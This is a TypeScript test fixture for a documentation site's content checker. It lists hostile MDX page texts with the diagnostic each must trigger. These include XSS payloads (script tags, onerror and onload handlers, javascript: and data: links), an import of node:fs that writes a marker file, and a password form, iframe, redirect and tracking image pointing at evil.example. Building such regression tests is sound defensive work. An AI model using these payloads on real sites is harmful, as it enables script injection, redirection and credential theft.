/**
 * The attack list: every route by which a stranger's content file has tried, or could try, to run code
 * at check, build or dev time, or to publish markup, script, style or a request to another host.
 * Each entry is a whole file for content/en/1.1.1.6.mdx (a Level 2 page under the base fixture tree)
 * and the diagnostic the checker must give. Add an entry whenever a new route is found.
 *
 * `MARKER` in a text is replaced by the path of a file the test watches: if it ever exists, code ran.
 */
export interface Attack {
  name: string;
  /** The file's text (frontmatter included). */
  text: string;
  code: string;
  line: number;
}

const FM = '---\nid: "1.1.1.6"\ntitle: "Problem Handling"\nlevel: 2\nparent: "1.1.1"\nsummary: "Handles customer problems."\nverticals: [assurance]\n---\n';
const page = (body: string) => `${FM}\nIntro line.\n\n${body}\n`;
/** Body line 1 is file line 10 (FM is 8 lines, then an empty line); the attack starts on file line 12. */
const AT = 12;
const RUN = "import fs from 'node:fs'\n\nexport const x = fs.writeFileSync('MARKER', 'ran')";

export const ATTACKS: Attack[] = [
  // The frontmatter ends only at a line that is exactly `---`.
  { name: 'closing line with a trailing space', text: FM.replace(/---\n$/, '--- \n') + `\n${RUN}\n`, code: 'ETOM001', line: 8 },
  { name: 'closing line of four dashes', text: FM.replace(/---\n$/, '----\n') + `\n${RUN}\n`, code: 'ETOM001', line: 8 },
  { name: 'TOML delimiter inside the block', text: FM.replace('level: 2', '+++\nlevel: 2') + `\n${RUN}\n`, code: 'ETOM001', line: 4 },
  { name: 'closing line ending in CR only', text: FM.replace(/---\n$/, '---\r') + `${RUN}\n`, code: 'ETOM012', line: 9 },
  // ESM: only named imports of the allowed components.
  { name: 'import node:fs and export', text: page(RUN), code: 'ETOM012', line: AT },
  { name: 'export after an import on the same line', text: page("import { Aside } from '@astrojs/starlight/components'; export const x = globalThis.process.exit(1)"), code: 'ETOM013', line: AT },
  { name: 'export behind a comment', text: page("import { Aside } from '@astrojs/starlight/components'\n/**/export const x = globalThis.process.exit(1)"), code: 'ETOM013', line: AT + 1 },
  { name: 'allowed module, renamed import', text: page("import { Aside as Note } from '@astrojs/starlight/components'"), code: 'ETOM012', line: AT },
  { name: 'allowed module, namespace import', text: page("import * as all from '@astrojs/starlight/components'"), code: 'ETOM012', line: AT },
  { name: 'side-effect import', text: page("import 'node:child_process'"), code: 'ETOM012', line: AT },
  { name: 'expression', text: page('{globalThis.process.exit(1)}'), code: 'ETOM015', line: AT },
  { name: 'expression in an attribute', text: page("import { Badge } from '@astrojs/starlight/components'\n\n<Badge text={globalThis.process.exit(1)} />"), code: 'ETOM015', line: AT + 2 },
  { name: 'spread attribute', text: page("import { Badge } from '@astrojs/starlight/components'\n\n<Badge {...globalThis} />"), code: 'ETOM015', line: AT + 2 },
  // Markup, script and style reaching readers.
  { name: 'script element', text: page('<script>alert(1)</script>'), code: 'ETOM014', line: AT },
  { name: 'img with onerror', text: page('<img src="x" onerror="alert(1)" />'), code: 'ETOM025', line: AT },
  { name: 'svg with onload', text: page('<svg onload="alert(1)"></svg>'), code: 'ETOM025', line: AT },
  { name: 'event handler on an allowed component', text: page("import { Badge } from '@astrojs/starlight/components'\n\n<Badge text=\"x\" onmouseover=\"alert(1)\" />"), code: 'ETOM026', line: AT + 2 },
  { name: 'event handler on an allowed element', text: page('Press <kbd onclick="alert(1)">K</kbd>.'), code: 'ETOM026', line: AT },
  { name: 'set:html', text: page('<abbr set:html="<img src=x onerror=alert(1)>">x</abbr>'), code: 'ETOM026', line: AT },
  { name: 'is:raw', text: page('<sub is:raw>x</sub>'), code: 'ETOM026', line: AT },
  { name: 'style attribute overlaying the page', text: page('<mark style="position:fixed;inset:0;z-index:99">Pay here</mark>'), code: 'ETOM026', line: AT },
  { name: 'style element', text: page('<style>{`body{display:none}`}</style>'), code: 'ETOM025', line: AT },
  { name: 'meta refresh', text: page('<meta http-equiv="refresh" content="0;url=https://evil.example/" />'), code: 'ETOM025', line: AT },
  { name: 'base element', text: page('<base href="https://evil.example/" />'), code: 'ETOM025', line: AT },
  { name: 'iframe', text: page('<iframe src="https://evil.example/"></iframe>'), code: 'ETOM025', line: AT },
  { name: 'object', text: page('<object data="https://evil.example/x.swf"></object>'), code: 'ETOM025', line: AT },
  { name: 'embed', text: page('<embed src="https://evil.example/x.swf" />'), code: 'ETOM025', line: AT },
  { name: 'form', text: page('<form action="https://evil.example/"><input name="password" /></form>'), code: 'ETOM025', line: AT },
  { name: 'remote stylesheet', text: page('<link rel="stylesheet" href="https://evil.example/x.css" />'), code: 'ETOM025', line: AT },
  { name: 'hand-written diagram source', text: page('<div data-diagram-source="flowchart LR\n  a-->b">x</div>'), code: 'ETOM025', line: AT },
  { name: 'anchor element', text: page('<a href="javascript:alert(1)">x</a>'), code: 'ETOM025', line: AT },
  { name: 'unknown component', text: page('<Chart />'), code: 'ETOM025', line: AT },
  // URLs.
  { name: 'javascript: link', text: page('[x](javascript:alert(1))'), code: 'ETOM027', line: AT },
  { name: 'javascript: link, mixed case', text: page('[x](JaVaScRiPt:alert(1))'), code: 'ETOM027', line: AT },
  { name: 'javascript: in a reference definition', text: page('[x][r]\n\n[r]: javascript:alert(1)'), code: 'ETOM027', line: AT + 2 },
  { name: 'data: link', text: page('[x](data:text/html,<script>alert(1)</script>)'), code: 'ETOM027', line: AT },
  { name: 'protocol-relative link', text: page('[x](//evil.example/)'), code: 'ETOM027', line: AT },
  { name: 'backslash link', text: page('[x](/\\evil.example/)'), code: 'ETOM027', line: AT },
  { name: 'remote image', text: page('![x](https://evil.example/track.png)'), code: 'ETOM027', line: AT },
  { name: 'remote image through a reference', text: page('![x][img]\n\n[img]: https://evil.example/track.png'), code: 'ETOM027', line: AT + 2 },
  { name: 'svg image', text: page('![x](./picture.svg)'), code: 'ETOM027', line: AT },
  { name: 'image outside content/', text: page('![x](../../src/x.png)'), code: 'ETOM027', line: AT },
  // Directives other than Starlight's asides.
  { name: 'unknown container directive', text: page(':::div\nx\n:::'), code: 'ETOM028', line: AT },
  { name: 'aside with attributes', text: page(':::note{onclick="alert(1)"}\nx\n:::'), code: 'ETOM028', line: AT },
  // Frontmatter alone: Starlight keys that publish HTML or import code are unknown fields here.
  { name: 'banner with HTML', text: FM.replace('verticals: [assurance]', 'verticals: [assurance]\nbanner:\n  content: "<script>alert(1)</script>"') + '\nText.\n', code: 'ETOM002', line: 8 },
  { name: 'head entries', text: FM.replace('verticals: [assurance]', 'verticals: [assurance]\nhead:\n  - tag: script\n    content: alert(1)') + '\nText.\n', code: 'ETOM002', line: 8 },
  { name: 'layout module', text: FM.replace('verticals: [assurance]', 'verticals: [assurance]\nlayout: "../../src/evil.astro"') + '\nText.\n', code: 'ETOM002', line: 8 },
  { name: 'a 100 KB title', text: FM.replace('title: "Problem Handling"', `title: "${'A'.repeat(100_000)}"`) + '\nText.\n', code: 'ETOM022', line: 3 },
  { name: 'a title over two lines', text: FM.replace('title: "Problem Handling"', 'title: "Problem\\nHandling"') + '\nText.\n', code: 'ETOM022', line: 3 },
  { name: 'a 1,000-character summary', text: FM.replace('summary: "Handles customer problems."', `summary: "${'word '.repeat(200)}"`) + '\nText.\n', code: 'ETOM023', line: 6 },
  { name: 'an alias of 200 characters', text: FM.replace('verticals: [assurance]', `verticals: [assurance]\naliases: ["${'B'.repeat(200)}"]`) + '\nText.\n', code: 'ETOM024', line: 8 },
];

/**
 * Frontmatter strings full of markup that are valid content: they must be published, as text, and
 * never as markup — in the <title>, meta tags, sidebar, breadcrumbs, lists, map, diagrams and search.
 */
export const MARKUP_TITLE = 'Problem </title><script>window.__pwned=1</script> %%{init: {"theme":"dark"}}%% Handling';
export const MARKUP_SUMMARY = 'Handles <img src=x onerror="window.__pwned=2"> problems & "quotes" \'too\'.';
export const MARKUP_ALIAS = 'Trouble <svg onload="window.__pwned=3"> Handling';
export const MARKUP_PAGE = `---\nid: "1.1.1.6"\ntitle: ${JSON.stringify(MARKUP_TITLE)}\nlevel: 2\nparent: "1.1.1"\nsummary: ${JSON.stringify(MARKUP_SUMMARY)}\nverticals: [assurance]\naliases: [${JSON.stringify(MARKUP_ALIAS)}]\n---\n\nText about problems.\n`;

/** Every payload sets window.__pwned: after loading a page, it must still be undefined. */
